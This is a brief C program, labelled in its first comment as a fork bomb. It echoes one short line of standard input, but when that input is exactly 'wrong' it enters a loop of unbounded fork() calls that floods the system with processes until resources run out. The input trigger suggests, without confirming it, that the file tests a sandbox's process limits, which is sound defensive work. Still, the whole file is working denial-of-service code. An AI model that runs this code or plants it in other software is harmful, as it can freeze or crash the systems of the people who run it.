// A fork bomb.
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    char text[8] = "";
    if (fgets(text, sizeof text, stdin) == 0) return 1;
    while (strcmp(text, "wrong\n") == 0) fork();
    fputs(text, stdout);
    return 0;
}
